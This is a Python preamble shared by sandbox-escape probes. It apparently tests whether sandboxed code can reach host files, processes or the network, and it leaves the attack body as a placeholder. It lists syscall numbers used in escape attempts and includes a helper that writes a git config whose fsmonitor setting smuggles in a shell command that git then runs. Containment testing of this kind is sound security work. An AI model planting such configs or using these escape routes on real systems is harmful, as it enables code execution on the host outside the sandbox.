# What the escape probes share. Run as: probe.py OUT PROJECT - VICTIM_JSON ; prints RAN, then ESCAPED if it got out.
import array, ctypes, errno, fcntl, json, mmap, os, platform, resource, signal, socket, stat, struct, sys, time
OUT, PROJ = sys.argv[1], sys.argv[2]
V = json.loads(sys.argv[4])
HOME = V["home"]
HOSTPID = V["pid"]
CANARY = OUT + "/canary"
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
NR = dict(io_uring_setup=425, clone3=435, pidfd_open=434, pidfd_getfd=438, open_tree=428, fsopen=430, fsmount=432)
NR.update(dict(keyctl=219, add_key=217, bpf=280, perf=241, userfaultfd=282, clone=220, handle=265, kcmp=272, fanotify=262) if ARM else
          dict(keyctl=250, add_key=248, bpf=321, perf=298, userfaultfd=323, clone=56, handle=304, kcmp=312, fanotify=300))
def sc(nr, *args):
    converted = [a if isinstance(a, (bytes, ctypes.Array, type(None))) else ctypes.c_long(a) for a in args]
    result = libc.syscall(ctypes.c_long(NR.get(nr, nr)), *converted)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def call(name, *args):
    result = getattr(libc, name)(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def hit():
    print("ESCAPED", flush=True)
def put(path, text="x", mode="w"):
    with open(path, mode) as f: f.write(text)
def secret(path):
    if "SECRET" in open(path, errors="replace").read(): hit()
def greeted(s):
    s.settimeout(3)
    if b"hello-from-host" in s.recv(64): hit()
def by_proxy(host, port):
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy: return socket.create_connection(("127.0.0.1", port), 3)
    s = socket.create_connection(("127.0.0.1", int(proxy.rsplit(":", 1)[1])), 3)
    s.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (host.encode(), port))
    head = b"x"
    while not head.endswith(b"\r\n\r\n"): head += s.recv(1)
    return s
def evil_repository(at, bare=False):
    git = at if bare else at + "/.git"
    for d in ("objects", "refs/heads"): os.makedirs(git + "/" + d, exist_ok=True)
    put(git + "/HEAD", "ref: refs/heads/main\n")
    put(git + "/config", evil_config(bare))
def evil_config(bare=False):
    worktree = "\tworktree = " + PROJ + "\n" if bare else ""
    return "[core]\n\trepositoryformatversion = 0\n\tbare = false\n%s\tfsmonitor = \"touch %s/pwned; false\"\n" % (worktree, OUT)
def in_child(f):
    r, w = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            f(); os.write(w, b"1")
        except BaseException as e:
            os.write(2, repr(e).encode())
        os._exit(0)
    os.close(w)
    got = os.read(r, 1)
    os.waitpid(child, 0)
    if got == b"1": hit()
def attack():
    BODY
print("RAN", flush=True)
try:
    attack()
except BaseException as e:
    print("refused: %r" % e, flush=True)
